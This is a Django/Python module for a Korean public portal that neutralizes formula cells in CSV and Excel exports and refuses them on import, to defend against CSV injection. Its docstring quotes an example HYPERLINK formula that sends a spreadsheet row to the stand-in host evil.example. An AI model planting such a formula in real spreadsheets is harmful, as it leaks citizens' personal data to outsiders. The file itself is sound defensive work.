"""One rule for every CSV and Excel file the portal writes or reads: a cell is data, never a formula.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) as a formula, so a citizen named ``=HYPERLINK("http://evil.example/?"&A1,"클릭")`` would become a
live link that sends the row to a stranger when staff open the roster (CSV injection, OWASP). Following OWASP's
guidance, such a text cell is written with a leading apostrophe, which spreadsheet programs show as text; a
plain number (``-3``, ``+82``) is left alone. Imports refuse such cells with a row error instead of guessing.
"""

import re

import tablib
from django.utils.translation import gettext_lazy as _
from import_export.formats import base_formats

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")

FORMULA_REFUSED = _(
    "‘%(value)s’처럼 =, +, -, @로 시작하는 값은 엑셀 수식으로 실행될 수 있어 받을 수 없습니다. "
    "앞의 기호를 지우거나 다른 말로 시작해 주세요."
)


def starts_like_a_formula(value):
    """True for a text value a spreadsheet program would run as a formula (plain numbers are not)."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and not _PLAIN_NUMBER.fullmatch(value.strip())
    )


def neutralize(value):
    """``value`` as it may be written to a CSV or Excel cell."""
    return f"'{value}" if starts_like_a_formula(value) else value


def neutralize_row(values):
    return [neutralize(value) for value in values]


def neutralize_dataset(dataset):
    """A copy of a tablib ``Dataset`` with every cell (headers included) neutralized."""
    safe = tablib.Dataset(
        *(neutralize_row(row) for row in dataset),
        headers=neutralize_row(dataset.headers) if dataset.headers else None,
        title=dataset.title,
    )
    return safe


class _NeutralizingFormat:
    def export_data(self, dataset, **kwargs):
        return super().export_data(neutralize_dataset(dataset), **kwargs)


class XLSX(_NeutralizingFormat, base_formats.XLSX):
    pass


class CSV(_NeutralizingFormat, base_formats.CSV):
    pass


# The formats every back-office import/export offers: Excel first, CSV for other tools.
FORMATS = [XLSX, CSV]


class FormulaCellsRefusedMixin:
    """For import-export ``ModelResource``s: a row with a cell that starts like a formula is a row error (in
    Korean, naming the column), and nothing of it is written."""

    def import_instance(self, instance, row, **kwargs):
        from django.core.exceptions import ValidationError

        errors = {}
        for field in self.get_import_fields():
            column = field.column_name
            if column in row and starts_like_a_formula(row[column]):
                errors[field.attribute or column] = [FORMULA_REFUSED % {"value": str(row[column])[:40]}]
        if errors:
            raise ValidationError(errors)
        return super().import_instance(instance, row, **kwargs)
